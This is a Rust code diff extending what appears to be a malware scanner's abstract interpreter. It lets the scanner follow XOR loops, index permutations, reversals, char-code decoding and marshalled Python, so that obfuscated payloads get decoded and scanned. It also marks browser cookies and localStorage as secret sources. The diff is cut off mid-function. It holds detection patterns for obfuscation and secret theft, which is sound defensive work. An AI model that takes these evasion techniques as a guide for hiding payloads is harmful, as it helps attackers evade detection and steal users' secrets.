@@ -31,10 +31,17 @@ const MAX_TEXT: usize = 1024;
 const MAX_ITEMS: usize = 32;
 /// How many secrets one value carries.
 const MAX_SECRETS: usize = 4;
+/// How many of a file's functions are remembered to be run when nothing calls them.
+const MAX_DEFINED: usize = 256;
 /// How deep helper calls are followed.
 const MAX_CALL_DEPTH: usize = 3;
 /// How deep the lowerers nest expressions before giving up on the rest (stack safety).
 pub(crate) const MAX_EXPR_DEPTH: u32 = 48;
+/// How many elements a sequence known element by element keeps (the bytes XOR loops and
+/// index permutations work on); longer ones are only followed for their secrets.
+const MAX_SEQUENCE: usize = 4096;
+/// Shortest text computed by XOR, permutation or reversal that is scanned like source.
+const MIN_DERIVED_CHARS: usize = 12;
 
 /// Text the file computes at run time.
 const HOLE: char = '\u{1}';
@@ -55,7 +62,11 @@ pub(crate) enum Lang {
 pub(crate) enum Expr {
     /// A constant string.
     Str(String),
-    /// A constant that is not text (number, boolean, null).
+    /// An integer constant.
+    Int(i64),
+    /// `a ^ b`, `a -bxor b`.
+    Xor(Box<Expr>, Box<Expr>),
+    /// A constant that is not text or an integer (float, boolean, null).
     Other,
     /// A module imported under a name.
     Module(String),
@@ -149,6 +160,25 @@ struct Secret {
     at: usize,
 }
 
+/// A name the runtime provides (a builtin, a module member): a source when it is one of the
+/// browser's stores (`document.cookie`, `localStorage`), which a script in a shipped SVG or page
+/// can read.
+fn runtime_global(name: String) -> Value {
+    let mut value = Value::named(name);
+    if let Some(name) = value.name.as_deref()
+        && knowledge::BROWSER_STORES.contains(&name)
+    {
+        let what = name.to_owned();
+        value.carry(&[Secret {
+            kind: SecretKind::File,
+            what,
+            // A global has no place in the file; the flow is reported at its sink.
+            at: usize::MAX,
+        }]);
+    }
+    value
+}
+
 /// An abstract value.
 #[derive(Debug, Clone, Default)]
 struct Value {
@@ -163,6 +193,18 @@ struct Value {
     /// The whole environment (`os.environ`, `process.env`).
     environment: bool,
     secrets: Vec<Secret>,
+    /// A known integer.
+    number: Option<i64>,
+    /// Known bytes (what a decoder or `bytes(...)` produced), also when they are not text.
+    bytes: Option<Rc<Vec<u8>>>,
+    /// Every element, when each is known (a list of numbers or characters, what a
+    /// comprehension over one computes): at most [`MAX_SEQUENCE`].
+    sequence: Option<Rc<Vec<Value>>>,
+    /// `itertools.cycle`: the sequence repeats.
+    cycles: bool,
+    /// How known text was computed from other known text (`xor`, `permutation`,
+    /// `reversal`): such text is a decoded payload and is scanned like source.
+    via: Option<&'static str>,
 }
 
 impl Value {
@@ -237,6 +279,17 @@ impl Value {
             self.function.clone_from(&other.function);
         }
         self.environment |= other.environment;
+        // Either of two different known things is not known.
+        if self.number != other.number {
+            self.number = None;
+        }
+        if !same_rc(&self.bytes, &other.bytes) {
+            self.bytes = None;
+        }
+        if !same_rc(&self.sequence, &other.sequence) {
+            self.sequence = None;
+        }
+        self.via = self.via.or(other.via);
         for item in other.items.iter() {
             self.push_item(item.clone());
         }
@@ -287,6 +340,90 @@ impl Value {
             out.carry(&item.all_secrets());
         }
         out.secrets
+    }
+}
+
+impl Value {
+    fn number(n: i64) -> Value {
+        Value {
+            number: Some(n),
+            ..Value::default()
+        }
+    }
+
+    /// Known bytes, as text too when they are.
+    fn from_bytes(bytes: Vec<u8>) -> Value {
+        let mut out = Value::default();
+        if let Ok(text) = std::str::from_utf8(&bytes) {
+            out.texts.push(text.to_owned());
+            truncate(&mut out.texts[0]);
+        }
+        out.bytes = Some(Rc::new(bytes));
+        out
+    }
+
+    /// The one text it has, when it is wholly known.
+    fn known_text(&self) -> Option<&str> {
+        match self.texts.as_slice() {
+            [text] if self.items.is_empty() && !text.contains([HOLE, SECRET_HOLE]) => Some(text),
+            _ => None,
+        }
+    }
+
+    /// The integer it stands for: a number, or a single character (its code), as XOR and
+    /// `bytes(...)` read the elements of a string.
+    fn code(&self) -> Option<i64> {
+        if let Some(n) = self.number {
+            return Some(n);
+        }
+        let mut chars = self.known_text()?.chars();
+        let c = chars.next()?;
+        chars.next().is_none().then_some(i64::from(u32::from(c)))
+    }
+
+    /// Every element, when each is known: a known sequence, bytes, the characters of a
+    /// known text, or a literal list of known scalars; `None` past [`MAX_SEQUENCE`].
+    fn elements(&self) -> Option<Rc<Vec<Value>>> {
+        if let Some(sequence) = &self.sequence {
+            return Some(sequence.clone());
+        }
+        if let Some(bytes) = &self.bytes {
+            return (bytes.len() <= MAX_SEQUENCE)
+                .then(|| Rc::new(bytes.iter().map(|&b| Value::number(i64::from(b))).collect()));
+        }
+        if let Some(text) = self.known_text() {
+            if text.len() > MAX_SEQUENCE {
+                return None;
+            }
+            return Some(Rc::new(
+                text.chars().map(|c| Value::text(c.to_string())).collect(),
+            ));
+        }
+        let scalar = |v: &Value| v.number.is_some() || v.known_text().is_some();
+        (!self.items.is_empty() && self.items.len() < MAX_ITEMS && self.items.iter().all(scalar))
+            .then(|| self.items.clone())
+    }
+
+    /// A known sequence (its elements also kept as items, for the abstract interpreter).
+    fn of_sequence(elements: Vec<Value>, via: Option<&'static str>) -> Value {
+        let mut out = Value::default();
+        for element in &elements {
+            out.via = out.via.or(element.via);
+            if out.items.len() < MAX_ITEMS {
+                out.push_item(element.clone());
+            }
+        }
+        out.via = via.or(out.via);
+        out.sequence = Some(Rc::new(elements));
+        out
+    }
+}
+
+fn same_rc<T>(a: &Option<Rc<T>>, b: &Option<Rc<T>>) -> bool {
+    match (a, b) {
+        (Some(a), Some(b)) => Rc::ptr_eq(a, b),
+        (None, None) => true,
+        _ => false,
     }
 }
 
@@ -364,6 +501,36 @@ pub(crate) enum Role {
     Send,
     /// Looks up the name of its first argument in DNS.
     Resolve,
+    /// `len(x)`: the number of elements.
+    Len,
+    /// `range(n)`, `range(a, b)`: the integers.
+    Range,
+    /// `enumerate(x)`: pairs of index and element.
+    Enumerate,
+    /// `zip(a, b)`: pairs of elements.
+    Zip,
+    /// `itertools.cycle(x)`: the elements, repeating.
+    Cycle,
+    /// `chr(n)`, `[char]n`: the character of a code.
+    Chr,
+    /// `ord(c)`: the code of a character.
+    Ord,
+    /// `s.charCodeAt(i)`: the code of the character at an index.
+    CharCodeAt,
+    /// `String.fromCharCode(a, b, ...codes)`: the text of every code.
+    FromCharCodes,
+    /// `bytes(x)`, `bytearray(x)`: the bytes of a sequence of codes (or the text as it is).
+    Bytes,
+    /// `reversed(x)`, `x.reverse()`, `x[::-1]`: the elements backwards.
+    Reverse,
+    /// `s.split(sep)`: the pieces (the characters for an empty separator).
+    Split,
+    /// `x.map(f)`, `map(f, x)`, `ForEach-Object { … }`: `f` of every element.
+    Map,
+    /// `list(x)`, `Array.from(x)`: the elements as a list.
+    Sequence,
+    /// `marshal.loads(data)`: compiled Python whose strings are scanned.
+    Marshal,
 }
 
 /// One row: in `lang` (or both), calling `callee` plays `role`. A callee starting with `.` is a
@@ -403,7 +570,8 @@ pub(crate) const MODELS: &[Model] = &[
     row(PY, ".resolve", Role::Same),
     // Text that stays text.
     row(PY, "str", Role::Same),
-    row(PY, "bytes", Role::Same),
+    row(PY, "bytes", Role::Bytes),
+    row(PY, "bytearray", Role::Bytes),
     row(JS, "String", Role::Same),
     row(None, ".decode", Role::Same),
     row(None, ".encode", Role::Same),
@@ -412,7 +580,32 @@ pub(crate) const MODELS: &[Model] = &[
     row(None, ".toString", Role::Same),
     row(PY, ".join", Role::JoinWith),
     row(JS, ".join", Role::JoinItems),
+    row(PS, ".join", Role::JoinItems),
     row(PY, ".format", Role::Format),
+    // Sequences known element by element: XOR loops, index permutations, reversals.
+    row(PY, "len", Role::Len),
+    row(PY, "range", Role::Range),
+    row(PY, "enumerate", Role::Enumerate),
+    row(PY, "zip", Role::Zip),
+    row(PY, "itertools.cycle", Role::Cycle),
+    row(PY, "cycle", Role::Cycle),
+    row(PY, "chr", Role::Chr),
+    row(PS, "char", Role::Chr),
+    row(PY, "ord", Role::Ord),
+    row(JS, ".charCodeAt", Role::CharCodeAt),
+    row(JS, ".codePointAt", Role::CharCodeAt),
+    row(JS, "String.fromCharCode", Role::FromCharCodes),
+    row(JS, "String.fromCodePoint", Role::FromCharCodes),
+    row(PY, "reversed", Role::Reverse),
+    row(JS, ".reverse", Role::Reverse),
+    row(None, ".split", Role::Split),
+    row(JS, ".map", Role::Map),
+    row(PY, "map", Role::Map),
+    row(PS, "foreach-object", Role::Map),
+    row(PY, "list", Role::Sequence),
+    row(PY, "tuple", Role::Sequence),
+    row(JS, "Array.from", Role::Sequence),
+    row(PY, "marshal.loads", Role::Marshal),
     // Decoders of constant text.
     row(PY, "base64.b64decode", Role::Base64),
     row(PY, "base64.standard_b64decode", Role::Base64),
@@ -500,8 +693,8 @@ pub(crate) const MODELS: &[Model] = &[
     row(PS, "io.path.combine", Role::PathJoin),
     row(PS, "resolve-path", Role::Same),
     row(PS, "convert-path", Role::Same),
-    row(PS, "text.encoding.utf8.getstring", Role::Same),
-    row(PS, "text.encoding.ascii.getstring", Role::Same),
+    row(PS, "text.encoding.utf8.getstring", Role::Bytes),
+    row(PS, "text.encoding.ascii.getstring", Role::Bytes),
     row(PS, "text.encoding.unicode.getstring", Role::Same),
     row(PS, "convert.frombase64string", Role::Base64),
     row(PS, "get-content", Role::ReadFile),
@@ -548,6 +741,15 @@ const FLOW_WITHOUT_REQUESTS: &[&str] = &[
     "b32hexdecode",
     "b85decode",
     "a85decode",
+    // XOR, permutations and reversals of constant text, and compiled Python.
+    " ^ ",
+    "^0x",
+    "-bxor",
+    "[::-1]",
+    "reversed(",
+    ".reverse()",
+    "fromCharCode",
+    "marshal",
 ];
 
 /// Whether a Python or JavaScript file needs the interpreter: every flow it reports ends in a
@@ -558,6 +760,20 @@ pub(crate) fn worth_following(source: &str, sink: &Sink) -> bool {
         || FLOW_WITHOUT_REQUESTS
             .iter()
             .any(|w| memchr::memmem::find(source.as_bytes(), w.as_bytes()).is_some())
+        || has_index_list(source)
+}
+
+/// Whether the source holds a literal list of integers (`[3, 0, 2, 1]`): the order of an
+/// index permutation.
+fn has_index_list(source: &str) -> bool {
+    let bytes = source.as_bytes();
+    memchr::memchr_iter(b'[', bytes).any(|at| {
+        let digits = bytes[at + 1..]
+            .iter()
+            .take_while(|b| b.is_ascii_digit())
+            .count();
+        digits > 0 && bytes.get(at + 1 + digits) == Some(&b',')
+    })
 }
 
 /// Interprets the lowered `body` of one file, reporting flows into `sink`; returns how many
@@ -571,8 +787,24 @@ pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> u32 {
         returns: Vec::new(),
         weak: 0,
         steps: 0,
+        flows_only: false,
+        defined: Vec::new(),
+        followed: std::collections::HashSet::new(),
+        scanned: std::collections::HashSet::new(),
     };
     interp.block(body);
+    // A function nobody in the file calls still runs: as an event handler (`onload="init()"`),
+    // a callback of a library, an entry point of another file. Its parameters are unknown, so
+    // only its flows are reported: what it merely reads depends on arguments it never got
+    // here (a Skill's helper picking its own entry out of the agent's config, for one).
+    interp.flows_only = true;
+    let mut next = 0;
+    while let Some(function) = interp.defined.get(next).cloned() {
+        next += 1;
+        if !interp.followed.contains(&Rc::as_ptr(&function)) {
+            interp.follow(function, &[]);
+        }
+    }
     interp.steps
 }
 
@@ -583,11 +815,19 @@ struct Interp<'s, 'a> {
     scopes: Vec<HashMap<String, Value>>,
     /// Functions being followed (no recursion).
     calls: Vec<*const Function>,
-    /// Values returned by the helper being followed.
-    returns: Vec<Value>,
+    /// Report flows only, not the reads they start from (see [`run`]).
+    flows_only: bool,
+    /// The functions the file defines, in order (at most [`MAX_DEFINED`]).
+    defined: Vec<Rc<Function>>,
+    /// The functions a call has followed.
+    followed: std::collections::HashSet<*const Function>,
+    /// Values returned by the helper being followed (`None` before its first return).
+    returns: Vec<Option<Value>>,
     /// Inside a branch or loop, assignments add to the old value instead of replacing it.
     weak: u32,
     steps: u32,
+    /// Derived texts already scanned (loops and helpers evaluate the same code again).
+    scanned: std::collections::HashSet<u64>,
 }
 
 impl Interp<'_, '_> {
@@ -655,12 +895,24 @@ impl Interp<'_, '_> {
                     // Unpacked tuples share the element's value; good enough for secrets.
                     self.assign(var, element.clone(), false);
                 }
+                let before = self
+                    .accumulator(body)
+                    .and_then(|(name, _)| self.lookup(name).cloned());
                 // Twice, so that what one pass adds (`data += …`) reaches the next.
                 self.block(body);
                 self.block(body);
                 self.weak -= 1;
+                if let Some(before) = before {
+                    self.accumulate(vars, &iter, body, before);
+                }
             }
             Stmt::Def(function) => {
+                let id = Rc::as_ptr(function);
+                if self.defined.len() < MAX_DEFINED
+                    && !self.defined.iter().any(|f| Rc::as_ptr(f) == id)
+                {
+                    self.defined.push(function.clone());
+                }
                 let value = Value {
                     function: Some(function.clone()),
                     ..Value::default()
@@ -671,7 +923,14 @@ impl Interp<'_, '_> {
             Stmt::Return(expr) => {
                 let value = self.eval(expr);
                 if let Some(returned) = self.returns.last_mut() {
-                    returned.join(&value);
+                    match returned.take() {
+                        // The first return is the value as it is (known parts kept).
+                        None => *returned = Some(value),
+                        Some(mut old) => {
+                            old.join(&value);
+                            *returned = Some(old);
+                        }
+                    }
                 }
             }
         }
@@ -683,12 +942,27 @@ impl Interp<'_, '_> {
         }
         match expr {
             Expr::Str(text) => Value::text(text.clone()),
+            Expr::Int(n) => Value::number(*n),
+            Expr::Xor(left, right) => {
+                let (left, right) = (self.eval(left), self.eval(right));
+                match (left.code(), right.code()) {
+                    (Some(a), Some(b)) => Value {
+                        via: Some("xor"),
+                        ..Value::number(a ^ b)
+                    },
+                    _ => {
+                        let mut out = Value::unknown_carrying(left.all_secrets());
+                        out.carry(&right.all_secrets());
+                        out
+                    }
+                }
+            }
             Expr::Other => Value::default(),
             Expr::Module(name) => Value::named(name.clone()),
             Expr::Var(name) => match self.lookup(name) {
                 Some(value) => value.clone(),
                 // A builtin or a global of the runtime: its name.
-                None => Value::named(name.clone()),
+                None => runtime_global(name.clone()),
             },
             Expr::Attr(object, attribute) => {
                 let object = self.eval(object);
@@ -721,6 +995,13 @@ impl Interp<'_, '_> {
             Expr::Percent(template, args) => {
                 let template = self.eval(template);
                 let args = self.eval(args);
+                if let (Some(a), Some(b)) = (template.number, args.number) {
+                    // `i % len(key)`: Python's modulo (never negative for a positive divisor).
+                    return a
+                        .checked_rem_euclid(b)
+                        .map(Value::number)
+                        .unwrap_or_default();
+                }
                 let args = if args.items.is_empty() {
                     vec![args]
                 } else {
@@ -742,9 +1023,20 @@ impl Interp<'_, '_> {
             }
             Expr::Build(entries) => {
                 let mut out = Value::default();
+                let mut scalars = Vec::new();
                 for (_, value) in entries {
                     let value = self.eval(value);
+                    if scalars.len() <= MAX_SEQUENCE
+                        && (value.number.is_some() || value.known_text().is_some())
+                    {
+                        scalars.push(value.clone());
+                    }
                     out.push_item(value);
+                }
+                // A literal list of numbers or strings is known element by element, however
+                // long (up to MAX_SEQUENCE): the key of a XOR, the order of a permutation.
+                if scalars.len() == entries.len() && scalars.len() <= MAX_SEQUENCE {
+                    out.sequence = Some(Rc::new(scalars));
                 }
                 out
             }
@@ -755,6 +1047,7 @@ impl Interp<'_, '_> {
                 element,
             } => {
                 let iter = self.eval(iter);
+                let known = self.each(vars, &iter, element);
                 let item = iter.element();
                 self.weak += 1;
                 for var in vars {
@@ -762,9 +1055,17 @@ impl Interp<'_, '_> {
                 }
                 let value = self.eval(element);
                 self.weak -= 1;
-                let mut out = Value::default();
-                out.push_item(value);
-                out
+                match known {
+                    Some(mut known) => {
+                        known.carry(&value.all_secrets());
+                        known
+                    }
+                    None => {
+                        let mut out = Value::default();
+                        out.push_item(value);
+                        out
+                    }
+                }
             }
             Expr::EnvVar(key) => {
                 let key = self.eval(key);
@@ -789,6 +1090,12 @@ impl Interp<'_, '_> {
         if object.environment {
             return self.env_read(&Value::text(attribute), None);
         }
+        if matches!(attribute, "length" | "count")
+            && object.name.is_none()
+            && let Some(elements) = object.elements()
+        {
+            return Value::number(elements.len() as i64);
+        }
         if let Some(name) = &object.name {
             let qualified = format!("{name}.{attribute}");
             if matches!(qualified.as_str(), "os.environ" | "process.env") {
@@ -798,7 +1105,9 @@ impl Interp<'_, '_> {
                     ..Value::default()
                 };
             }
-            return Value::named(qualified);
+            let mut member = runtime_global(qualified);
+            member.carry(&object.secrets);
+            return member;
         }
         Value::unknown_carrying(object.all_secrets())
     }
@@ -806,6 +1115,31 @@ impl Interp<'_, '_> {
     fn index(&mut self, object: Value, key: Value) -> Value {
         if object.environment {
             return self.env_read(&key, None);
+        }
+        if object.name.is_none()
+            && let Some(elements) = object.elements()
+        {
+            let pick = |n: i64| -> Option<Value> {
+                let len = elements.len() as i64;
+                let i = if n < 0 { n + len } else { n };
+                let mut value = elements.get(usize::try_from(i).ok()?)?.clone();
+                value.via = value.via.or(Some("permutation"));
+                Some(value)
+            };
+            if let Some(n) = key.number
+                && let Some(value) = pick(n)
+            {
+                return value;
+            }
+            // `$s[3,0,2,1]`: the elements at each index.
+            if let Some(keys) = key.sequence.as_deref()
+                && let Some(picked) = keys
+                    .iter()
+                    .map(|k| k.number.and_then(pick))
+                    .collect::<Option<Vec<Value>>>()
+            {
+                return Value::of_sequence(picked, Some("permutation"));
+            }
         }
         if object.name.is_some() {
             // `module['ex' + 'ec']` names a member.
@@ -949,6 +1283,9 @@ impl Interp<'_, '_> {
                     if bytes.len() >= 16 {
                         text::scan_decoded(&bytes, name, at, self.sink);
                     }
+                    if out.bytes.is_none() && input.texts.len() == 1 {
+                        out.bytes = Some(Rc::new(bytes.clone()));
+                    }
                     if let Ok(decoded) = String::from_utf8(bytes)
                         && out.texts.len() < MAX_ALTERNATIVES
                     {
@@ -980,7 +1317,9 @@ impl Interp<'_, '_> {
                 for text in texts {
                     let shown = text.replace([HOLE, SECRET_HOLE], "*").replace('\\', "/");
                     if knowledge::sensitive_path(&shown).is_some() && !shown.ends_with(".pub") {
-                        text::report_read(&shown, at, self.sink);
+                        if !self.flows_only {
+                            text::report_read(&shown, at, self.sink);
+                        }
                         out.carry(&[Secret {
                             kind: SecretKind::File,
                             what: shown,
@@ -1006,12 +1345,266 @@ impl Interp<'_, '_> {
             Some(Role::JoinWith) => {
                 let separator = receiver.clone().unwrap_or_default();
                 let items = first.cloned().unwrap_or_default();
-                join_items(&items, &separator, carried.secrets)
+                self.join_known(&items, &separator, at)
+                    .unwrap_or_else(|| join_items(&items, &separator, carried.secrets))
             }
             Some(Role::JoinItems) => {
                 let items = receiver.clone().unwrap_or_default();
-                let separator = first.cloned().unwrap_or_else(|| Value::text(","));
-                join_items(&items, &separator, carried.secrets)
+                let separator = first.cloned().unwrap_or_else(|| {
+                    // PowerShell's `-join` joins with nothing; JavaScript's `.join()` with commas.
+                    Value::text(if self.lang == Lang::PowerShell {
+                        ""
+                    } else {
+                        ","
+                    })
+                });
+                self.join_known(&items, &separator, at)
+                    .unwrap_or_else(|| join_items(&items, &separator, carried.secrets))
+            }
+            Some(Role::Len) => match subject().elements() {
+                Some(elements) => Value::number(elements.len() as i64),
+                None => Value::unknown_carrying(carried.secrets),
+            },
+            Some(Role::Range) => {
+                let numbers: Vec<i64> = positional.iter().filter_map(|v| v.number).collect();
+                let (start, end, step) = match numbers.as_slice() {
+                    [end] => (0, *end, 1),
+                    [start, end] => (*start, *end, 1),
+                    [start, end, step] => (*start, *end, *step),
+                    _ => (0, 0, 0),
+                };
+                let count = if step > 0 && end > start {
+                    (end - start + step - 1) / step
+                } else if step < 0 && start > end {
+                    (start - end - step - 1) / -step
+                } else {
+                    0
+                };
+                if step == 0 || count > MAX_SEQUENCE as i64 {
+                    Value::unknown_carrying(carried.secrets)
+                } else {
+                    let numbers = (0..count)
+                        .map(|i| Value::number(start + i * step))
+                        .collect();
+                    Value::of_sequence(numbers, None)
+                }
+            }
+            Some(Role::Enumerate) => match subject().elements() {
+                Some(elements) => {
+                    let pairs = elements
+                        .iter()
+                        .enumerate()
+                        .map(|(i, e)| pair(Value::number(i as i64), e.clone()))
+                        .collect();
+                    Value::of_sequence(pairs, None)
+                }
+                None => Value::unknown_carrying(carried.secrets),
+            },
+            Some(Role::Zip) => {
+                let known: Option<Vec<(Rc<Vec<Value>>, bool)>> = positional
+                    .iter()
+                    .map(|v| v.elements().map(|e| (e, v.cycles)))
+                    .collect();
+                match known.as_deref() {
+                    Some([(a, false), (b, cycles)]) if !b.is_empty() => {
+                        let len = if *cycles {
+                            a.len()
+                        } else {
+                            a.len().min(b.len())
+                        };
+                        let pairs = (0..len)
+                            .map(|i| pair(a[i].clone(), b[i % b.len()].clone()))
+                            .collect();
+                        Value::of_sequence(pairs, None)
+                    }
+                    _ => Value::unknown_carrying(carried.secrets),
+                }
+            }
+            Some(Role::Cycle) => match subject().elements() {
+                Some(elements) => Value {
+                    cycles: true,
+                    ..Value::of_sequence(elements.to_vec(), None)
+                },
+                None => Value::unknown_carrying(carried.secrets),
+            },
+            Some(Role::Chr) => chr(&subject()),
+            Some(Role::Ord) => ord(&subject()),
+            Some(Role::CharCodeAt) => {
+                let text = subject();
+                let index = first.and_then(|v| v.number).unwrap_or(0);
+                let code = text
+                    .known_text()
+                    .and_then(|t| t.chars().nth(usize::try_from(index).ok()?).map(u32::from));
+                match code {
+                    Some(code) => Value {
+                        via: text.via,
+                        ..Value::number(i64::from(code))
+                    },
+                    None => Value::unknown_carrying(carried.secrets),
+                }
+            }
+            Some(Role::FromCharCodes) => {
+                let mut out = String::new();
+                let mut via = None;
+                let mut known = true;
+                for value in &positional {
+                    via = via.or(value.via);
+                    let codes: Vec<Value> = match value.elements() {
+                        Some(e) if value.number.is_none() => e.to_vec(),
+                        _ => vec![(*value).clone()],
+                    };
+                    for code in codes {
+                        via = via.or(code.via);
+                        match code
+                            .code()
+                            .and_then(|c| u32::try_from(c).ok())
+                            .and_then(char::from_u32)
+                        {
+                            Some(c) if out.len() < text::MAX_DECODED_BYTES => out.push(c),
+                            _ => known = false,
+                        }
+                    }
+                }
+                if known {
+                    self.scan_derived(&out, via, at);
+                    let mut value = Value::text(out);
+                    value.via = via;
+                    value
+                } else {
+                    Value::unknown_carrying(carried.secrets)
+                }
+            }
+            Some(Role::Bytes) => {
+                let input = subject();
+                if first.is_none() && receiver.is_none() {
+                    // `bytearray()`: an empty buffer a loop fills.
+                    Value::from_bytes(Vec::new())
+                } else if input.known_text().is_some() || input.bytes.is_some() {
+                    let mut out = input;
+                    out.carry(&carried.secrets);
+                    out
+                } else {
+                    let bytes = input.elements().and_then(|e| {
+                        e.iter()
+                            .map(|v| v.code().and_then(|c| u8::try_from(c).ok()))
+                            .collect::<Option<Vec<u8>>>()
+                    });
+                    match bytes {
+                        Some(bytes) => {
+                            self.scan_derived_bytes(&bytes, input.via, at);
+                            let mut out = Value::from_bytes(bytes);
+                            out.via = input.via;
+                            out
+                        }
+                        None => Value::unknown_carrying(carried.secrets),
+                    }
+                }
+            }
+            Some(Role::Reverse) => {
+                let input = subject();
+                if let Some(text) = input.known_text() {
+                    let reversed: String = text.chars().rev().collect();
+                    self.scan_derived(&reversed, Some("reversal"), at);
+                    let mut out = Value::of_sequence(
+                        reversed
+                            .chars()
+                            .map(|c| Value::text(c.to_string()))
+                            .collect(),
+                        Some("reversal"),
+                    );
+                    out.texts = vec![reversed];
+                    out.items = Rc::default();
+                    out
+                } else if let Some(elements) = input.elements() {
+                    Value::of_sequence(elements.iter().rev().cloned().collect(), Some("reversal"))
+                } else {
+                    let mut out = input;
+                    out.carry(&carried.secrets);
+                    out
+                }
+            }
+            Some(Role::Split) => {
+                let input = subject();
+                let separator = first.and_then(Value::known_text);
+                match input.known_text() {
+                    Some(text) if text.len() <= MAX_SEQUENCE => {
+                        let pieces: Vec<Value> = match separator {
+                            Some("") => text.chars().map(|c| Value::text(c.to_string())).collect(),
+                            Some(separator) => text.split(separator).map(Value::text).collect(),
+                            None => text.split_whitespace().map(Value::text).collect(),
+                        };
+                        Value::of_sequence(pieces, input.via)
+                    }
+                    _ => Value::unknown_carrying(carried.secrets),
+                }
+            }
+            Some(Role::Map) => {
+                // JavaScript `x.map(f)`, Python `map(f, x)`, PowerShell `x | ForEach-Object {…}`.
+                let (function, input) = match (&receiver, self.lang) {
+                    (Some(r), _) => (first.cloned(), Some(r.clone())),
+                    (None, Lang::PowerShell) => (
+                        first.cloned(),
+                        named(&["input"]).or_else(|| positional.get(1).map(|v| (*v).clone())),
+                    ),
+                    (None, _) => (first.cloned(), positional.get(1).map(|v| (*v).clone())),
+                };
+                let mapped = match (function, input.as_ref().and_then(Value::elements)) {
+                    (Some(function), Some(elements)) => {
+                        let mut results = Vec::with_capacity(elements.len());
+                        for (i, element) in elements.iter().enumerate() {
+                            let value = self
+                                .apply(&function, vec![element.clone(), Value::number(i as i64)]);
+                            if value.number.is_none() && value.known_text().is_none() {
+                                break;
+                            }
+                            results.push(value);
+                        }
+                        (results.len() == elements.len()).then(|| Value::of_sequence(results, None))
+                    }
+                    _ => None,
+                };
+                match mapped {
+                    Some(mut value) => {
+                        value.carry(&carried.secrets);
+                        value
+                    }
+                    None => Value::unknown_carrying(carried.secrets),
+                }
+            }
+            Some(Role::Sequence) => {
+                let input = subject();
+                match (input.elements(), positional.get(1)) {
+                    (Some(elements), None) => Value::of_sequence(elements.to_vec(), input.via),
+                    (Some(elements), Some(function)) => {
+                        let function = (*function).clone();
+                        let mut results = Vec::new();
+                        for (i, element) in elements.iter().enumerate() {
+                            results.push(
+                                self.apply(
+                                    &function,
+                                    vec![element.clone(), Value::number(i as i64)],
+                                ),
+                            );
+                        }
+                        if results
+                            .iter()
+                            .all(|v| v.number.is_some() || v.known_text().is_some())
+                        {
+                            Value::of_sequence(results, None)
+                        } else {
+                            Value::unknown_carrying(carried.secrets)
+                        }
+                    }
+                    _ => Value::unknown_carrying(carried.secrets),
+                }
+            }
+            Some(Role::Marshal) => {
+                if let Some(bytes) = subject().bytes.as_deref() {
+                    // Compiled code handed to `marshal.loads`: its strings are scanned.
+                    let strings = super::pyc::marshal_strings(bytes);
+                    text::scan_decoded_strings(&strings.texts, "marshal", at, self.sink);
+                }
+                Value::unknown_carrying(carried.secrets)
             }
             Some(Role::Format) => {
                 let template = receiver.clone().unwrap_or_default();
@@ -1058,6 +1651,195 @@ impl Interp<'_, '_> {
         result
     }
 
+    /// A join of elements that are all known (any number of them): the text, scanned when XOR
+    /// or a permutation computed it.
+    fn join_known(&mut self, items: &Value, separator: &Value, at: usize) -> Option<Value> {
+        let separator = separator.known_text()?;
+        let elements = items.elements()?;
+        let mut out = String::new();
+        let mut via = items.via;
+        for (i, element) in elements.iter().enumerate() {
+            if i > 0 {
+                out.push_str(separator);
+            }
+            via = via.or(element.via);
+            match (element.known_text(), element.number) {
+                (Some(text), _) => out.push_str(text),
+                (None, Some(n)) => out.push_str(&n.to_string()),
+                _ => return None,
+            }
+            if out.len() > text::MAX_DECODED_BYTES {
+                return None;
+            }
+        }
+        self.scan_derived(&out, via, at);
+        let mut value = Value::text(out);
+        value.via = via;
+        Some(value)
+    }
+
+    /// Binds the loop variables to one element (unpacking pairs), replacing what they held.
+    fn bind_each(&mut self, vars: &[String], item: &Value) {
+        let scope = self.scopes.last_mut().expect("a scope");
+        if vars.len() > 1 && item.items.len() == vars.len() {
+            for (var, part) in vars.iter().zip(item.items.iter()) {
+                scope.insert(var.clone(), part.clone());
+            }
+        } else {
+            for var in vars {
+                scope.insert(var.clone(), item.clone());
+            }
+        }
+    }
+
+    /// `element` for each of the known elements of `iter`, when every result is known:
+    /// `bytes(b ^ 0x42 for b in data)`, `s[i] for i in [3, 0, 2, 1]`.
+    fn each(&mut self, vars: &[String], iter: &Value, element: &Expr) -> Option<Value> {
+        let elements = iter.elements()?;
+        let mut results = Vec::with_capacity(elements.len());
+        for item in elements.iter() {
+            self.bind_each(vars, item);
+            let value = self.eval(element);
+            if value.number.is_none() && value.known_text().is_none() {
+                return None;
+            }
+            results.push(value);
+        }
+        Some(Value::of_sequence(results, None))
+    }
+
+    /// The variable a loop body only adds to, and what it adds: `out.append(b ^ k)`,
+    /// `s += chr(c)`, `s = s + x`.
+    fn accumulator<'b>(&self, body: &'b [Stmt]) -> Option<(&'b str, &'b Expr)> {
+        match body {
+            [Stmt::Update(name, added)] => Some((name, added)),
+            [Stmt::Let(name, Expr::Concat(parts))] => match parts.as_slice() {
+                [Expr::Var(same), added] if same == name => Some((name, added)),
+                _ => None,
+            },
+            [Stmt::Eval(Expr::Call { callee, args, .. })] => {
+                match (callee.as_ref(), args.as_slice()) {
+                    (Expr::Attr(object, method), [arg])
+                        if matches!(method.as_str(), "append" | "push") && arg.key.is_none() =>
+                    {
+                        match object.as_ref() {
+                            Expr::Var(name) => Some((name, &arg.value)),
+                            _ => None,
+                        }
+                    }
+                    _ => None,
+                }
+            }
+            _ => None,
+        }
+    }
+
+    /// A loop that only adds to one variable, run element by element over known elements
+    /// (the abstract passes have run already, for the secrets): the bytes or text it builds
+    /// are then known, and scanned when XOR or a permutation computed them.
+    fn accumulate(&mut self, vars: &[String], iter: &Value, body: &[Stmt], before: Value) {
+        let Some((name, added)) = self.accumulator(body) else {
+            return;
+        };
+        let Some(elements) = iter.elements() else {
+            return;
+        };
+        let as_text = before.bytes.is_none() && before.known_text().is_some();
+        let mut text = before.known_text().unwrap_or_default().to_owned();
+        let mut codes: Vec<Value> = match (&before.bytes, before.elements()) {
+            _ if as_text => Vec::new(),
+            (_, Some(existing)) => existing.to_vec(),
+            (_, None) if before.items.is_empty() && before.texts.is_empty() => Vec::new(),
+            _ => return,
+        };
+        let mut via = None;
+        for item in elements.iter() {
+            self.bind_each(vars, item);
+            let value = self.eval(added);
+            via = via.or(value.via);
+            if as_text {
+                match value.known_text() {
+                    Some(piece) if text.len() + piece.len() <= text::MAX_DECODED_BYTES => {
+                        text.push_str(piece);
